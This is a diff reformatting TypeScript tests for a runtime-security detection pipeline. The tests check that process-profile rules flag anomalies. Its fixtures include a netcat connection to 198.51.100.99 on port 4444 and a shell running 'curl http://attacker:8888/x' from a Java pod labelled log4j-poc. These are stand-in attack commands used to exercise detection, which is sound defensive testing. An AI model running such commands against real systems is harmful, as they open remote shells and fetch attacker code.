@@ -22,7 +22,11 @@ describe('profiles in the pipeline', () => {
     const kbPython = proc(c.kbTools, 1, '/usr/local/bin/python3', '-m kb_tools.server', BASE - 3_600_000);
     const at = BASE + 40 * 60_000;
     const nc = proc(c.kbTools, 7001, '/usr/bin/nc', '198.51.100.99 4444', at, kbPython);
-    const inputs = [...benignHour('aks-demo', BASE), line(at, tetragonExec(nc)), line(at + 50, tetragonConnect(nc, at + 50, '198.51.100.99', 4444))];
+    const inputs = [
+      ...benignHour('aks-demo', BASE),
+      line(at, tetragonExec(nc)),
+      line(at + 50, tetragonConnect(nc, at + 50, '198.51.100.99', 4444)),
+    ];
     const run = await finish(await feed(newRun(), inputs));
 
     const rows = run.sink.rows('CausewayProfiles_CL');
@@ -45,27 +49,44 @@ describe('profiles in the pipeline', () => {
 
     const story = liveStories(run).find((s) => s.signals.some((x) => x.ruleId === 'CW-PROFILE-NEW-PROCESS-MCP'))!;
     expect(story.severity).toBe('Medium');
-    expect(story.signals.map((s) => s.ruleId)).toEqual(expect.arrayContaining(['CW-PROFILE-NEW-PROCESS-MCP', 'CW-PROFILE-NEW-EGRESS']));
+    expect(story.signals.map((s) => s.ruleId)).toEqual(
+      expect.arrayContaining(['CW-PROFILE-NEW-PROCESS-MCP', 'CW-PROFILE-NEW-EGRESS']),
+    );
     const reason = story.signals.find((s) => s.ruleId === 'CW-PROFILE-NEW-PROCESS-MCP')!.reason;
-    expect(reason).toMatch(/new-executable \/usr\/bin\/nc: not in the profile learned 10:00:\d\d–10:10:\d\d from \d+ events; executables: none/);
+    expect(reason).toMatch(
+      /new-executable \/usr\/bin\/nc: not in the profile learned 10:00:\d\d–10:10:\d\d from \d+ events; executables: none/,
+    );
     expect(story.entities.ips).toContain('198.51.100.99');
     // The benign hour itself: nothing outside the profiles.
-    expect(liveStories(run).filter((s) => s !== story && s.signals.some((x) => x.ruleId.startsWith('CW-PROFILE')))).toEqual([]);
+    expect(
+      liveStories(run).filter((s) => s !== story && s.signals.some((x) => x.ruleId.startsWith('CW-PROFILE'))),
+    ).toEqual([]);
   });
 
   it('a Kubescape ApplicationProfile imported as the baseline flags a shell from the first event; listed executables and egress pass', async () => {
-    const baselines = [...importKubescape(readFileSync(SAMPLES + 'kubescape/ap-chain-backend.yaml', 'utf8'), 'ap', 'aks-demo'), ...importKubescape(readFileSync(SAMPLES + 'kubescape/nn-chain-backend.yaml', 'utf8'), 'nn', 'aks-demo')];
+    const baselines = [
+      ...importKubescape(readFileSync(SAMPLES + 'kubescape/ap-chain-backend.yaml', 'utf8'), 'ap', 'aks-demo'),
+      ...importKubescape(readFileSync(SAMPLES + 'kubescape/nn-chain-backend.yaml', 'utf8'), 'nn', 'aks-demo'),
+    ];
     const backend = pod('aks-demo', 'log4j-poc', 'chain-backend', 0, { container: 'backend' });
     const java = proc(backend, 1, '/opt/java/openjdk/bin/java', '-jar /app/app.jar', BASE);
     const sh = proc(backend, 200, '/bin/sh', '-c "curl http://attacker:8888/x"', BASE + 60_000, java);
-    const inputs = [line(BASE, tetragonExec(java)), line(BASE + 1000, tetragonFile(java, BASE + 1000, '/app/app.jar')), line(BASE + 60_000, tetragonExec(sh))];
+    const inputs = [
+      line(BASE, tetragonExec(java)),
+      line(BASE + 1000, tetragonFile(java, BASE + 1000, '/app/app.jar')),
+      line(BASE + 60_000, tetragonExec(sh)),
+    ];
     const run = await finish(await feed(newRun(testConfig(), baselines), inputs));
     const stories = liveStories(run);
     expect(stories).toHaveLength(1);
     const signal = stories[0]!.signals.find((s) => s.ruleId === 'CW-PROFILE-NEW-PROCESS')!;
-    expect(signal.reason).toMatch(/\/bin\/sh: not in the imported profile \(kubescape ApplicationProfile log4j-poc\/chain-backend/);
+    expect(signal.reason).toMatch(
+      /\/bin\/sh: not in the imported profile \(kubescape ApplicationProfile log4j-poc\/chain-backend/,
+    );
     expect(stories[0]!.severity).toBe('Medium');
     const deviations = run.sink.rows('CausewayProfiles_CL').filter((r) => r.RecordType === 'deviation');
-    expect(deviations.map((r) => [r.DeviationKind, r.DeviationValue, r.ProfileStatus])).toEqual([['new-executable', '/bin/sh', 'imported']]);
+    expect(deviations.map((r) => [r.DeviationKind, r.DeviationValue, r.ProfileStatus])).toEqual([
+      ['new-executable', '/bin/sh', 'imported'],
+    ]);
   });
 });
